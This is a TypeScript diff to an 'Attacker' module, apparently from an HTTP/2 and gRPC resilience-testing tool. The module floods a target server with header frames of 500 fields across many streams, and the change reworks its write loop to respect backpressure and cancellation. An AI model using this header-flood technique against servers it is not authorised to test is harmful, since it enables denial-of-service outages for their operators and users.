@@ -1,5 +1,5 @@
 import type { Attacker } from '../lib/attacker.ts';
-import { keepConnections } from '../lib/connections.ts';
+import { keepConnections, writeOn } from '../lib/connections.ts';
 import { callBlock, FLAG, FRAME, field, frame, preface } from '../lib/frames.ts';
 import { CREATE_TOKEN } from '../lib/grpc-session.ts';
 import { BASE } from '../lib/target.ts';
@@ -28,13 +28,16 @@ const headerFrames = (stream: number): Buffer => {
 export const headerLists =
   ({ streams, ...options }: StreamOptions): Attacker =>
   (context) =>
-    keepConnections(context, grpcConnections(options), (socket) => {
+    keepConnections(context, grpcConnections(options), (socket, signal) => {
       countRejections(socket, context, { endedCalls: true });
       socket.write(preface());
-      for (const stream of streamIds(streams)) {
+      const ids = streamIds(streams).values();
+      writeOn(socket, signal, () => {
+        const { value: stream } = ids.next();
+        if (stream === undefined) return undefined;
         context.counter.attempted();
-        socket.write(headerFrames(stream));
-      }
+        return headerFrames(stream);
+      });
     });
 
 const HTTP_FIELDS = 500;
